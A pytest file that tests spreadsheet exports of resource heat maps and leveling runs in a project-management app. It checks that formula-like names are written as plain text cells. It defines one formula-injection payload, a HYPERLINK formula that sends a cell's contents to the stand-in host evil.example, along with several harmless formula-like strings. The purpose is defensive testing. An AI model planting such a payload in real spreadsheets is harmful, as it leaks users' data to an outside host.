"""Resource workbooks (heat map, leveling run): names typed as formulas are text, not formulas."""

from __future__ import annotations

import datetime as dt
import io
from typing import Any

import openpyxl

from pmo.resources.models import Scenario
from pmo.resources.tests.factories import MON, allocate, pool

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _no_formulas(book: Any) -> bool:
    return not any(c.data_type == "f" for ws in book for row in ws.iter_rows() for c in row)


def test_heatmap_xlsx_holds_a_formula_like_role_as_a_string_cell(
    client: Any, users: Any, org: Any, make_project: Any
) -> None:
    # given a pool whose role and name were typed like formulas, overloaded in one week
    java = pool(org, role="=1+2", name="@SUM(A1:A9)")
    allocate(java, make_project(), MON, MON + dt.timedelta(days=4), "3")
    client.force_login(users["exec"])
    # when the heat map is exported by role and by resource
    by_role = client.get(f"/resources/heatmap/?start={MON}&periods=1&format=xlsx")
    by_person = client.get(f"/resources/heatmap/?start={MON}&periods=1&format=xlsx&by=resource")
    # then the labels are string cells as typed, and the figures numbers
    book = openpyxl.load_workbook(io.BytesIO(by_role.content))
    assert [(c.value, c.data_type) for c in book["Demand"][4]] == [("=1+2", "s"), (3.0, "n")]
    assert [(c.value, c.data_type) for c in book["Load"][4]] == [("=1+2", "s"), (1.5, "n")]
    assert _no_formulas(book)
    person = openpyxl.load_workbook(io.BytesIO(by_person.content))["Capacity"]["A4"]
    assert (person.value, person.data_type) == ("@SUM(A1:A9)", "s")


def test_leveling_run_xlsx_holds_formula_like_names_as_string_cells(
    client: Any, users: Any, org: Any, make_project: Any
) -> None:
    from pmo.resources.leveling import run_leveling
    from pmo.resources.models import LevelingRun

    # given two projects over a pool's capacity, one named and the pool named like formulas
    java = pool(org, name="-1+1")
    a, b = make_project(priority=1), make_project(priority=4, name=ATTACK)
    for project in (a, b):
        allocate(java, project, MON, MON + dt.timedelta(days=4), "1.5")
    client.force_login(users["member"])
    client.post("/resources/scenarios/", {"name": "+Level"})
    scenario = Scenario.objects.get()
    client.post(f"/resources/scenarios/{scenario.pk}/level/", {"time_limit": "1", "pin": [a.code]})
    run = LevelingRun.objects.get()
    run_leveling(run.pk, today=MON)
    # when the run's result is exported
    export = client.get(f"/resources/leveling-runs/{run.pk}/?format=xlsx")
    book = openpyxl.load_workbook(io.BytesIO(export.content))
    # then the project and pool names are string cells as typed; days and dates keep types
    delays = {r[0].value: r for r in book["Delay per project"].iter_rows(min_row=4)}
    assert (delays[b.code][1].value, delays[b.code][1].data_type) == (ATTACK, "s")
    [moved] = book["Moved"].iter_rows(min_row=4)
    assert [(moved[k].value, moved[k].data_type) for k in (1, 3, 9)] == [
        (ATTACK, "s"),
        ("-1+1", "s"),
        (5, "n"),
    ]
    assert (moved[5].data_type, moved[5].value.date()) == ("d", MON)
    assert _no_formulas(book)
